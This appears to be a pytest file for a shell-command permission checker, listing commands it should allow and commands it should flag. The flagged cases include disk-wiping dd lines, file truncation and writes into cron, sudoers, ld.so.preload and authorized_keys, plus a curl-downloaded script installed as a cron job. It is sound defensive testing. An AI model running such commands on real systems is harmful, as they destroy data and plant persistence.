"""Three shell classes: whole-disk and whole-folder copies into a folder not on this machine, new files
in folders whose files run later judged by what lands there, and variables exported earlier on the line
as a command's environment.

Payloads live only in Python strings; nothing here is run.
"""

from __future__ import annotations

import os
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from verdicts import allowed_and_asked_in, decide, rule_ids

# ---- 1. a copy of a whole disk or folder into a folder that is not on this machine ----------------------
# F is a folder that is on no machine (a drive mounted elsewhere); H a fresh folder in the home folder with
# a file (seed.json) and a folder (album/) in it. Judged as a batch line (files read, no working folder)
# and from a project elsewhere.
ABSENT = f"/mnt/bw-absent-{uuid.uuid4().hex[:8]}"


@pytest.fixture
def home_folder() -> Iterator[str]:
    folder = os.path.join(os.path.realpath(os.path.expanduser("~")), f"bw-le-{uuid.uuid4().hex[:8]}")
    os.makedirs(os.path.join(folder, "album"))
    with open(os.path.join(folder, "seed.json"), "w") as f:
        f.write("{}")
    with open(os.path.join(folder, "album", "a.jpg"), "w") as f:
        f.write("x")
    yield folder
    shutil.rmtree(folder)


WHOLE_COPY_SAFE = [
    "sudo dd if=/dev/sda of=F/disk-backup.img bs=4M status=progress",
    "dd if=/dev/mmcblk0 of=F/pi-sd.img bs=4M",
    "dd bs=4M if=/dev/nvme0n1p2 of=F/root.img conv=fsync",
    "dd if=/dev/disk2 of=F/usb.img",
    "rsync -avh --progress H/album/ F/Pictures/",
    "rsync -aHAX --info=progress2 /srv/pgdata/ F/pgdata/",
    "sudo rsync -a /var/www/ F/www/",
    "cp -a /srv/media/ F/media/",
    "cp -r H/album F/",  # a folder that is here
    "rsync -a H/album F/",
]
WHOLE_COPY_ASKED = [
    "dd if=/dev/zero of=F/disk-backup.img bs=4M",
    "dd if=/dev/urandom of=F/disk-backup.img",
    "sudo dd if=/dev/random of=F/pi-sd.img",
    "dd if=/dev/null of=F/disk.img",
    "dd of=F/disk.img if=/dev/zero",
    "dd if=/dev/sda of=F/disk.img if=/dev/zero",  # the last if= is read
    "dd if=$SRC of=F/disk.img",
    "dd if=/dev/fd/0 of=F/disk.img",
    "dd of=F/disk.img",  # stdin
    "dd if=/dev/sda of=F/ledger.db",  # a name that says it holds data
    "dd if=/dev/sda of=F/credentials",
    "dd if=/dev/sda of=~/.kube-absent-bw/config",  # a dot folder: settings and keys
    "rsync -a /srv/pgdata/ F/.ssh/authorized_keys",
    "dd if=/dev/sda of=/dev/sdb",
    "dd if=/dev/sda of=/etc/cron.d/bw-absent",
    "cp H/seed.json F/ledger.json",  # one file over a named file
    "rsync -a H/seed.json F/ledger.json",
    "rsync -a /srv/ledger.json F/ledger.json",
    "cp /dev/null F/disk.img",
    "rsync -a --delete H/album/ F/Pictures/",
    "mv H/album/ F/Pictures/",
    "echo '[]' | sudo tee F/ledger.json",
    "echo x | tee F/disk.img",
    "cat /dev/null > F/disk.img",
    ": > F/disk.img",
    "truncate -s 0 F/disk.img",
    "cat /dev/sda > F/disk.img",
]


def _line(command: str, home: str) -> str:
    return command.replace("F/", f"{ABSENT}/").replace("H/", f"{home}/")


@pytest.mark.parametrize("command", WHOLE_COPY_SAFE)
def test_whole_copy_into_a_folder_not_here_passes(command: str, home_folder: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    line = _line(command, home_folder)
    assert decide(line, read_files=True) == "allow", line
    assert decide(line, cwd=tmp_path) == "allow", line


@pytest.mark.parametrize("command", WHOLE_COPY_ASKED)
def test_overwrites_into_a_folder_not_here_ask(command: str, home_folder: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    line = _line(command, home_folder)
    assert decide(line, read_files=True) != "allow", line
    assert decide(line, cwd=tmp_path) != "allow", line


# ---- 2. a new file where files run later is judged by the text that lands there ------------------------
# The project has jobs/ok.sh (harmless) and jobs/wipe.sh (deletes data); the targets are new files in
# folders of this machine whose files run code or grant access (rules/paths.toml runs_or_grants).
NEW = f"bw-le-{uuid.uuid4().hex[:8]}"


def _jobs(folder: Path) -> None:
    (folder / "jobs").mkdir()
    (folder / "jobs" / "ok.sh").write_text("#!/bin/sh\necho nightly\n")
    (folder / "jobs" / "wipe.sh").write_text("#!/bin/sh\nrm -rf ~/data\n")


RUNS_LATER_SAFE = [
    f"cp jobs/ok.sh /etc/cron.daily/{NEW}",
    f"cd jobs && cp ok.sh /etc/cron.daily/{NEW}",
    f"sudo cp jobs/ok.sh /etc/cron.daily/{NEW}",
    f"cp -p jobs/ok.sh /etc/cron.daily/{NEW}",
]
RUNS_LATER_ASKED = [
    f"cp jobs/wipe.sh /etc/cron.daily/{NEW}",
    f"sudo cp jobs/wipe.sh /etc/cron.daily/{NEW}",
    f"cp jobs/missing.sh /etc/cron.daily/{NEW}",
    f"cp $F /etc/cron.daily/{NEW}",
    f"cp host:ok.sh /etc/cron.daily/{NEW}",
    "cp jobs/ok.sh jobs/wipe.sh /etc/cron.daily/",
    "cp -r jobs/ /etc/cron.daily/",
    f"mv jobs/wipe.sh /etc/cron.daily/{NEW}",
    f"cp jobs/ok.sh /etc/sudoers.d/{NEW}",  # what grants access is not read as a script
    "cp jobs/ok.sh /etc/ld.so.preload",
    f"cp jobs/ok.sh /usr/local/bin/{NEW}",
    "cp jobs/ok.sh /root/.ssh/authorized_keys2",
    f"echo 'rm -rf ~/data' > jobs/ok.sh && cp jobs/ok.sh /etc/cron.daily/{NEW}",
    f"curl -so jobs/ok.sh https://x.example/j && cp jobs/ok.sh /etc/cron.daily/{NEW}",
    f"echo x > /etc/profile.d/{NEW}.sh",
    f"echo x | sudo tee /etc/cron.daily/{NEW}",
]
test_runs_later_safe, test_runs_later_asked = allowed_and_asked_in(_jobs, RUNS_LATER_SAFE, RUNS_LATER_ASKED)


# ---- 3. variables exported earlier on the line are the command's environment ---------------------------
# rake reads NAME=value from its environment (program tables' env_args): `VERSION=0` migrates down.
EXPORTED_SAFE = [
    "rails db:migrate",
    "export RAILS_LOG_LEVEL=debug; bundle exec rails db:migrate",
    "VERSION=0; rails db:migrate",  # set, not exported: rake does not see it
    "(export VERSION=0); rails db:migrate",  # exported in a subshell that is gone
    "export VERSION=0 | cat; rails db:migrate",  # a pipeline part runs in a copy of the shell
    "export VERSION=0; export -n VERSION; rails db:migrate",
    "declare -x VERSION=0; declare +x VERSION; rails db:migrate",
    "set -a; set +a; VERSION=0; rails db:migrate",
    "export VERSION=0; echo $VERSION",
    "bash -c 'rails db:migrate'",
    "FOO=1 bash -c 'rails db:migrate'",
]
EXPORTED_ASKED = [
    "VERSION=0 rails db:migrate",
    "export VERSION=0; bundle exec rails db:migrate",
    "VERSION=0; export VERSION; rails db:migrate",
    "VERSION=0 && export VERSION && bin/rails db:migrate",
    "export VERSION=0 && rake db:migrate",
    "export VERSION=0\nrails db:migrate",
    "export A=1 VERSION=0; rails db:migrate",
    "declare -x VERSION=0; rails db:migrate",
    "typeset -x VERSION=0; rails db:migrate",
    "declare -rx VERSION=0; rails db:migrate",
    "set -a; VERSION=0; rails db:migrate",
    "set -o allexport; VERSION=0; bin/rails db:migrate",
    "set -ea; VERSION=0; rails db:migrate",
    "if true; then export VERSION=0; fi; rails db:migrate",  # may be exported
    "export VERSION=$V; rails db:migrate",
    "export VERSION=0; cd api && bin/rails db:migrate",
    "export VERSION=0; (cd api && bin/rails db:migrate)",
    "export VERSION=0; bash -c 'rails db:migrate'",
    "export VERSION=0; sh -c \"bundle exec rake db:migrate\"",
    "VERSION=0 bash -c 'rails db:migrate'",
    "env VERSION=0 bash -c 'rails db:migrate'",
    "sudo env VERSION=0 sh -c 'rake db:migrate'",
    "export VERSION=0; eval 'rails db:migrate'",
    "export VERSION=0; echo db:migrate | xargs rails",
    "export VERSION=0; time rails db:migrate",
    "export VERSION=0; nohup bin/rails db:migrate",
]


@pytest.mark.parametrize("command", EXPORTED_SAFE)
def test_exported_safe(command: str) -> None:
    assert decide(command, read_files=True) == "allow", command


@pytest.mark.parametrize("command", EXPORTED_ASKED)
def test_exported_version_asks(command: str) -> None:
    assert decide(command, read_files=True) != "allow", command
    assert "shell.rails:migrate-to-version" in rule_ids(command, read_files=True), command
